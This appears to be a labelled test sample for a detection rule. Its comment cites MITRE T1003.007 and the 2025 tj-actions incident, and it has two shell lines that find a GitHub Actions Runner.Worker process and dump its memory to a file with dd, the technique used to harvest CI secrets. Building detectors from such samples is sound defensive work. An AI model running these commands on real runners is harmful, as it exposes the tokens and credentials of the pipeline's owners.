# expect: process-injection | source: T1003.007, tj-actions 2025
pid=$(pgrep -f Runner.Worker)
dd if=/proc/$pid/mem of=/tmp/m bs=1M
